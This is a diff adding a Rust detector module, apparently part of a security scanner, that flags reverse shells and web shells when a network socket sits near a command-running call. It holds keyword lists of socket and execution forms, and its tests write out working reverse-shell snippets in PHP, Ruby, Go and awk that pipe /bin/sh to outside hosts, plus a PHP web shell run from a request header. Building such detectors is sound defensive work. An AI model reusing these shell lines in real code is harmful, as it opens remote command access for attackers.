@@ -1,0 +1,242 @@
+//! Command channels in any language: a socket opened near a place that runs commands.
+//!
+//! The evaluator models shell, Python, JavaScript and PowerShell. A reverse shell in
+//! PHP, Ruby, Go, Lua, Groovy, Perl or awk, or one whose stream plumbing the evaluator
+//! does not follow, still has two parts that any language spells recognisably: a
+//! network socket (`fsockopen`, `TCPSocket.new`, `net.Dial`, `uv.new_tcp`,
+//! `/inet/tcp/…`) and a command sink (`proc_open`, `IO.popen`, `exec.Command`,
+//! `ProcessBuilder`, `| getline`, `pty.spawn`). Both within [`WINDOW`] lines of each
+//! other, outside comments, is read as a shell handed to the network.
+//!
+//! Measured before it was kept: 10 of 13 blind backdoors of round 2, and none of the
+//! 1,039 code files of the benign collections.
+
+use super::super::behaviour::Evidence;
+use super::super::text::excerpt;
+use super::{Findings, MAX_EVIDENCE};
+
+/// Lines between the socket and the command sink that still read as one channel.
+pub const WINDOW: usize = 20;
+
+/// Forms that open a network socket, lowercase.
+const SOCKETS: [&str; 31] = [
+    "socket(",
+    // awk's coprocess to a network pseudo-file, often spelled in pieces.
+    "\"/inet",
+    "socket.socket",
+    "tcpsocket",
+    "tcpserver",
+    "fsockopen",
+    "stream_socket_client",
+    "stream_socket_server",
+    "net.dial",
+    "net.listen(",
+    "new socket(",
+    "serversocket",
+    "new_tcp(",
+    "tcp_connect",
+    "/inet/tcp/",
+    "/inet4/tcp/",
+    "/inet6/tcp/",
+    "ztcp ",
+    "zsocket",
+    "/dev/tcp/",
+    "io::socket",
+    "new websocket(",
+    "websockets.connect",
+    "websocket.create_connection",
+    "tcpclient",
+    "sockets.socket",
+    "net.connect(",
+    "net.createconnection(",
+    ".accept()",
+    "tcplistener",
+    "socket.tcp(",
+];
+
+/// Inbound web-request input (PHP superglobals and their kin): a command sink close to
+/// one is a web shell.
+const REQUEST_INPUTS: [&str; 8] = [
+    "$_get[",
+    "$_post[",
+    "$_request[",
+    "$_cookie[",
+    "$_server['http_",
+    "$_server[\"http_",
+    "php://input",
+    "getallheaders(",
+];
+
+/// Lines between request input and a command sink that still read as a web shell.
+pub const REQUEST_WINDOW: usize = 8;
+
+/// Forms that run a command or code, lowercase.
+const SINKS: [&str; 24] = [
+    "proc_open",
+    "popen",
+    "shell_exec",
+    "passthru",
+    "system(",
+    "exec.command",
+    "processbuilder",
+    "getruntime().exec",
+    "open3.",
+    "os.execute",
+    "vim.fn.system",
+    "jobstart(",
+    "[scriptblock]::create",
+    "invoke-expression",
+    "iex ",
+    "iex(",
+    "| getline",
+    "|& getline",
+    "pty.spawn",
+    "os.dup2",
+    "child_process",
+    "cp.exec",
+    "eval(",
+    "eval \"",
+];
+
+/// Whether a line is only a comment in the common comment syntaxes (a `#!` line is not).
+fn is_comment(line: &str) -> bool {
+    let t = line.trim_start();
+    (t.starts_with('#') && !t.starts_with("#!"))
+        || t.starts_with("//")
+        || t.starts_with("--")
+        || t.starts_with("/*")
+        || t.starts_with('*')
+        || t.starts_with(';')
+        || t.starts_with('%')
+}
+
+/// The first socket line and the command-sink line nearest it, within [`WINDOW`]
+/// lines (1-based), with the forms that matched.
+pub fn find(text: &str) -> Option<((usize, &'static str), (usize, &'static str))> {
+    let mut sockets: Vec<(usize, &'static str)> = Vec::new();
+    let mut sinks: Vec<(usize, &'static str)> = Vec::new();
+    let mut requests: Vec<(usize, &'static str)> = Vec::new();
+    for (index, line) in text.lines().enumerate() {
+        if line.len() > 4096 || is_comment(line) {
+            continue;
+        }
+        let lower = line.to_ascii_lowercase();
+        if let Some(form) = SOCKETS.iter().find(|s| lower.contains(**s)) {
+            sockets.push((index + 1, form));
+        }
+        if let Some(form) = REQUEST_INPUTS.iter().find(|s| lower.contains(**s)) {
+            requests.push((index + 1, form));
+        }
+        if let Some(form) = SINKS.iter().find(|s| lower.contains(**s)) {
+            sinks.push((index + 1, form));
+        }
+    }
+    let near = |sources: &[(usize, &'static str)], window: usize| {
+        sources.iter().find_map(|source| {
+            sinks
+                .iter()
+                .filter(|sink| sink.0.abs_diff(source.0) <= window)
+                .min_by_key(|sink| sink.0.abs_diff(source.0))
+                .map(|sink| (*source, *sink))
+        })
+    };
+    near(&sockets, WINDOW).or_else(|| near(&requests, REQUEST_WINDOW))
+}
+
+/// Records a command channel found in `text` (the file `path`) as `network-shell`
+/// evidence whose source is the socket.
+pub fn record(out: &mut Findings, path: &str, text: &str) {
+    let Some(((socket_line, socket_form), (sink_line, sink_form))) = find(text) else {
+        return;
+    };
+    let line_text = |n: usize| text.lines().nth(n - 1).unwrap_or_default();
+    let socket = behaviour_evidence(
+        out,
+        "network-socket",
+        path,
+        socket_line,
+        line_text(socket_line),
+        if REQUEST_INPUTS.contains(&socket_form) {
+            format!("reads a web request's input ({})", socket_form.trim())
+        } else {
+            format!("opens a network socket ({})", socket_form.trim())
+        },
+        None,
+    );
+    behaviour_evidence(
+        out,
+        "network-shell",
+        path,
+        sink_line,
+        line_text(sink_line),
+        format!(
+            "runs commands ({}) within {} lines of the network input at line {socket_line}",
+            sink_form.trim(),
+            sink_line.abs_diff(socket_line)
+        ),
+        socket,
+    );
+}
+
+/// Pushes one piece of evidence at a whole line; its index, unless the skill has
+/// shown [`MAX_EVIDENCE`] already.
+fn behaviour_evidence(
+    out: &mut Findings,
+    tag: &str,
+    file: &str,
+    line: usize,
+    line_text: &str,
+    detail: String,
+    source: Option<usize>,
+) -> Option<usize> {
+    if out.evidence.len() >= MAX_EVIDENCE {
+        return None;
+    }
+    let column = line_text.len() - line_text.trim_start().len() + 1;
+    out.evidence.push(Evidence {
+        tag: tag.to_string(),
+        file: file.to_string(),
+        line: u32::try_from(line).unwrap_or(u32::MAX),
+        column: u32::try_from(column).unwrap_or(1),
+        excerpt: excerpt(line_text.trim()),
+        detail,
+        quoted: None,
+        source,
+        sink: None,
+    });
+    Some(out.evidence.len() - 1)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_socket_beside_a_command_sink_is_a_channel_in_any_language() {
+        let php =
+            "<?php\n$s = fsockopen('203.0.113.5', 1337);\n$p = proc_open('/bin/sh -i', [0=>$s,1=>$s,2=>$s], $pipes);\n";
+        assert!(find(php).is_some());
+        let ruby =
+            "s = TCPSocket.new(relay, 8443)\nwhile line = s.gets\n  IO.popen(line) { |io| s.write(io.read) }\nend\n";
+        assert!(find(ruby).is_some());
+        let go = "conn, _ := net.DialTimeout(\"tcp\", peer, time.Second)\ncmd := exec.Command(\"/bin/sh\")\ncmd.Stdin = conn\n";
+        assert!(find(go).is_some());
+        let awk = "BEGIN { svc = \"/inet/tcp/0/203.0.113.77/8080\"\n while ((svc |& getline cmd) > 0) { while ((cmd | getline line) > 0) print line |& svc } }\n";
+        assert!(find(awk).is_some());
+        let web = "$task = base64_decode( $_SERVER['HTTP_X_TASK'] ?? '' );\n$p = proc_open( $task, [1 => ['pipe', 'w']], $pipes );\n";
+        assert!(find(web).is_some());
+    }
+
+    #[test]
+    fn a_socket_far_from_any_sink_or_a_commented_one_is_not() {
+        let far = format!(
+            "s = TCPSocket.new(h, 80)\n{}system('make')\n",
+            "x = 1\n".repeat(WINDOW + 1)
+        );
+        assert!(find(&far).is_none());
+        let commented = "# fsockopen($h, 80) then proc_open(...)\n// new Socket(h) and ProcessBuilder\n";
+        assert!(find(commented).is_none());
+        let server = "srv = TCPServer.new(8080)\nloop { c = srv.accept; c.puts 'ok' }\n";
+        assert!(find(server).is_none());
+    }
+}
